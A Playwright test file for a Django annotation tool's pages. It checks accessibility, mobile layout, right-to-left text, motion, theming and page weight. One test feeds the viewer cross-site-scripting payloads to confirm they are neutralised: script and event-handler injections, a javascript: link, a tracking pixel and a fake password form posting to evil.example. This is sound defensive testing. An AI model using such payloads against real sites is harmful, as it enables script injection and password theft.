"""The annotator's pages for everyone: accessible, on a phone, in the dark, in any script, light, safe to look at."""

import gzip
import itertools
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import Permission
from django.contrib.staticfiles import finders
from playwright.sync_api import Page, Request, expect

from annotate.judgments import judging, revising
from annotate.judgments.verdicts import Verdict
from annotate.models import Comparison, Membership, stored_aspects
from annotate.people import invitations, password_links, reading
from annotate.queueing import queue
from tests.browser.accessibility import violations
from tests.browser.desk import PHONE, Desk
from tests.factories import TIE

JUDGE = "/p/reviews/judge/"
DARK: dict[str, Any] = {"color_scheme": "dark"}
CHAT = [
    {"role": "system", "content": "Be brief."},
    {"role": "user", "content": "How do I sort a list?\n\n| a | b |\n|---|---|\n| 1 | 2 |"},
]
CODE = (
    "# Use\n\n```python\nsorted(values)  # a *new* list\n```\n\n- [docs](https://example.com)\n\n"
    + "long " * 800
)


@pytest.fixture
def everything(project: Any, teammate: Any, compare: Callable[..., Comparison], make_comparisons: Any) -> Any:
    """Return a project that asks for all it can, a chat to judge, and a judgment given, changed once."""
    make_comparisons(1)
    claim = queue.claim(project, teammate)
    assert claim is not None
    judgment = judging.record(project, teammate, claim.token, TIE)
    judgment = revising.revise(project, teammate, judgment.pk, Verdict("prefer", claim.left_id, 2))
    compare(CHAT, CODE, CODE.replace("new", "fresh"))
    project.ask_rationale = True
    project.reasons = stored_aspects(["Truer", "Shorter"])
    project.criteria = stored_aspects(["Helpful", "Honest"])
    project.guidelines = "# How\n\nPrefer **truth**.\n\n| if | then |\n|---|---|\n| unsure | tie |"
    project.save()
    Membership.objects.filter(user=teammate).update(guidelines_read=reading.version_of(project.guidelines))
    return judgment


# The rules of WCAG 2.0 to 2.2, A and AA, with axe-core's best practices; and those that a theme or a width changes.
ALL_RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
LOOKS = {"type": "rule", "values": ["color-contrast", "target-size", "scrollable-region-focusable"]}


@pytest.mark.parametrize(
    ("options", "rules"),
    [({}, ALL_RULES), (DARK, LOOKS), (PHONE, LOOKS)],
    ids=["wide", "dark", "phone"],
)
def test_no_page_has_an_accessibility_violation(
    everything: Any, open_page: Callable[..., Page], teammate: Any, options: dict[str, Any], rules: Any
) -> None:
    page = open_page(teammate, JUDGE, **options)
    Desk(page).wait_for("Boolean(document.querySelector('#comparison[data-token]'))")
    found = violations(page, runOnly=rules)
    page.keyboard.press("d")
    expect(page.locator("#comparison")).to_have_attribute("data-view", "differences")
    found += violations(page, runOnly=rules)
    for key, name in (("?", "Keys"), ("g", "Guidelines")):
        page.keyboard.press(key)
        expect(page.get_by_role("dialog", name=name)).to_be_visible()
        found += violations(page, runOnly=rules)
        page.keyboard.press("Escape")
    for path in (
        "history/",
        f"history/{everything.pk}/",
        "history/?q=nothing",
        "me/",
        "guidelines/",
        "nowhere/",
    ):
        page.goto(f"/p/reviews/{path}")
        found += violations(page, runOnly=rules)
    for path in ("/", "/keys/"):
        page.goto(path)
        found += violations(page, runOnly=rules)
    page.context.clear_cookies()
    page.goto("/login/")
    found += violations(page, runOnly=rules)
    assert not found, "\n".join(found)


def test_pages_off_the_usual_paths_are_accessible(
    everything: Any, open_page: Callable[..., Page], owner: Any
) -> None:
    owner.user_permissions.add(Permission.objects.get(codename="add_project"))
    admin = Membership.objects.get(user=owner)
    guest = invitations.make_account(admin, "guest", "annotator")
    shaped = f"/p/reviews/comparisons/{everything.comparison_id}/policies/"
    page = open_page(owner, "/new/")
    found: list[str] = []
    for path, heading in (
        ("/new/", "New project"),
        (shaped, ""),
        ("/p/nowhere/", "Not found"),
        ("/password/", "Change password"),
        ("/account/", "Your account"),
        ("/p/reviews/trail/", "Trail"),
        (password_links.make_link(guest, admin), "password"),
    ):
        page.goto(path)
        expect(page.get_by_role("heading", level=1)).to_contain_text(heading)
        found += violations(page, runOnly=ALL_RULES)
    assert not found, "\n".join(found)


def test_the_end_of_the_work_has_no_accessibility_violation(
    project: Any, open_page: Callable[..., Page], teammate: Any
) -> None:
    page = open_page(teammate, JUDGE)
    expect(page.get_by_role("heading", name="No comparisons yet")).to_be_visible()
    assert not violations(page, runOnly=ALL_RULES)


def test_a_phone_shows_everything_within_reach_of_a_thumb(
    everything: Any, open_page: Callable[..., Page], teammate: Any
) -> None:
    page = open_page(teammate, JUDGE, **PHONE)
    Desk(page).wait_for("Boolean(document.querySelector('#comparison[data-token]'))")
    for path in (
        JUDGE,
        "/p/reviews/history/",
        f"/p/reviews/history/{everything.pk}/",
        "/p/reviews/me/",
        "/keys/",
        "/",
    ):
        page.goto(path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
    page.goto(JUDGE)
    for button in page.locator("#strip button:visible, #strip summary").all():
        box = button.bounding_box()
        assert box is not None
        assert box["height"] >= 40, button.inner_text()
        assert box["y"] + box["height"] <= 844, button.inner_text()  # on screen without scrolling
    top, bottom = (page.locator(f"#pane-{side}").bounding_box() for side in "ab")
    assert top is not None
    assert bottom is not None
    assert top["y"] + top["height"] <= bottom["y"]


@pytest.mark.parametrize(
    ("width", "height"),
    [(320, 256), (320, 568), (700, 450), (961, 450), (1024, 768), (1280, 720), (1366, 768), (1440, 900)],
)
def test_in_a_window_of_any_size_each_control_has_its_place(
    project: Any, compare: Callable[..., Comparison], open_desk: Callable[..., Desk], width: int, height: int
) -> None:
    project.ask_rationale = True
    project.reasons = stored_aspects(["Truer", "Shorter"])
    project.criteria = stored_aspects(["Helpful", "Honest"])
    project.save()
    compare("How do I sort a list?", CODE, CODE + "!")
    page = open_desk(width=width, height=height).page
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    beyond = """[...document.querySelectorAll('.desk-bar *, .notes *, .strip *')].filter((element) => {
        const { right, width } = element.getBoundingClientRect();
        return element.checkVisibility() && width > 1 && right > innerWidth + 1;
    }).map((element) => element.textContent.trim())"""
    assert page.evaluate(beyond) == []
    page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
    ends = "name => [...document.querySelectorAll(name)].map((one) => one.getBoundingClientRect())[0]"
    notes, strip, panes = (page.evaluate(ends, name) for name in (".notes", ".strip", ".panes"))
    assert panes["bottom"] <= notes["top"] + 1
    assert notes["bottom"] <= strip["top"] + 1
    assert panes["height"] > 90  # px


def test_under_a_thumb_the_verdicts_stay_where_they_are(
    compare: Callable[..., Comparison], open_page: Callable[..., Page], teammate: Any
) -> None:
    for number, length in enumerate([1, 400, 3, 90, 40, 1500, 60, 10, 200, 25, 5, 700]):
        compare(f"Number {number}", "word " * length, "other " * length)
    page = open_page(teammate, JUDGE, **PHONE)
    desk = Desk(page).ready()
    button = page.get_by_role("button", name="A is better", exact=True)
    at_rest = button.evaluate("button => getComputedStyle(button).backgroundColor")
    tops = set()
    for _ in range(10):
        box = page.locator("#strip").bounding_box()
        assert box is not None
        tops.add(box["y"])
        before = desk.token
        page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
        button.tap()
        desk.moved_on(before).saved().looked()
        assert page.evaluate("window.scrollY") == 0  # the next one is read from the top
        assert button.evaluate("button => getComputedStyle(button).backgroundColor") == at_rest  # not judged
    assert len(tops) == 1


def test_each_paragraph_runs_in_its_own_direction(
    compare: Callable[..., Comparison], open_page: Callable[..., Page], teammate: Any
) -> None:
    compare("مراجعة فيلم", "كان الفيلم بطيئًا.\n\nEnglish words here.", "静かな映画だが、素晴らしい。" * 200)
    page = open_page(teammate, JUDGE)
    arabic = page.get_by_text("كان الفيلم بطيئًا.")
    english = page.get_by_text("English words here.")
    script = "element => { const range = document.createRange(); range.selectNodeContents(element); " \
        "const text = range.getBoundingClientRect(), box = element.getBoundingClientRect(); " \
        "return text.left - box.left > box.right - text.right }"  # fmt: skip
    assert arabic.evaluate(script) is True  # it hangs on the right
    assert english.evaluate(script) is False
    assert page.evaluate("document.documentElement.scrollWidth") <= 1400


def test_nothing_moves_for_those_who_ask_for_that(
    make_comparisons: Any, open_page: Callable[..., Page], teammate: Any
) -> None:
    make_comparisons(2)
    page = open_page(teammate, JUDGE, reduced_motion="reduce")
    moving = page.evaluate(
        "[...document.querySelectorAll('*')].filter(element => { const style = getComputedStyle(element);"
        " return style.transitionDuration.split(',').some(time => parseFloat(time) > 0)"
        " && style.transitionProperty !== 'none' || style.animationName !== 'none' }).length"
    )
    assert moving == 0


def test_the_theme_follows_the_switch_and_is_remembered(
    project: Any, open_page: Callable[..., Page], teammate: Any
) -> None:
    page = open_page(teammate, "/", color_scheme="light")
    ground = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(ground)
    page.get_by_role("button", name="Switch between light and dark").click()
    dark = page.evaluate(ground)
    assert dark != light
    page.goto("/keys/")
    assert page.evaluate(ground) == dark


def test_hostile_completions_run_nothing_and_load_nothing(
    compare: Callable[..., Comparison], open_context: Any, teammate: Any, live_server: Any
) -> None:
    hostile = (
        "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>"
        "<style>body { display: none }</style><svg onload='window.hacked = 1'></svg>\n\n"
        "![pixel](https://evil.example/pixel.png) [run](javascript:window.hacked=1)\n\n"
        "</div></main><h1>Signed out</h1><form action='https://evil.example'><input name='password'></form>\n\n"
    )
    compare(hostile, hostile, hostile + "x" * 1_000_000)
    requested: list[Request] = []
    complaints: list[str] = []
    page = open_context(teammate).new_page()
    page.on("request", lambda request: requested.append(request))  # noqa: PLW0108 - Playwright marks its handlers
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto(JUDGE)
    desk = Desk(page)
    for key, view in (("t", "raw"), ("t", "rendered"), ("d", "differences")):
        page.keyboard.press(key)
        expect(page.locator("#comparison")).to_have_attribute("data-view", view)
    assert page.evaluate("window.hacked") is None
    assert page.get_by_role("heading", name="Signed out").count() == 0
    assert page.locator("#comparison form, #comparison img, #comparison script").count() == 0
    assert all(request.url.startswith((live_server.url, "data:")) for request in requested)
    assert not complaints
    expect(page.get_by_role("link", name="Open all of it")).to_be_visible()
    desk.looked().press("4")
    desk.saved()


def test_the_first_page_is_light(
    everything: Any, open_context: Any, teammate: Any, client_for: Callable[..., Any]
) -> None:
    """At most 60 kB over the wire in at most 8 requests, static files compressed as in production, at their worst
    (gzip; browsers are sent Brotli, which is smaller)."""
    page = open_context(teammate).new_page()
    requested: list[Request] = []
    page.on("request", lambda request: requested.append(request))  # noqa: PLW0108 - Playwright marks its handlers
    page.goto(JUDGE)
    page.wait_for_load_state("networkidle")
    # Up to the first look after its claim, which a page is late enough for on a busy machine.
    first = itertools.takewhile(lambda request: not request.url.endswith("/renew/"), requested)
    fetched = [request for request in first if not request.url.startswith("data:")]
    assert len(fetched) <= 8, [request.url for request in fetched]
    assert len([request for request in fetched if request.url.endswith(".js")]) <= 5
    assert len([request for request in fetched if request.url.endswith(".css")]) == 1
    total = 0
    for request in fetched:
        name = request.url.partition("/static/")[2]
        if name:
            total += len(gzip.compress(Path(str(finders.find(name))).read_bytes()))
        else:
            response = request.response()
            assert response is not None
            total += len(gzip.compress(response.body()))
    assert total <= 60_000
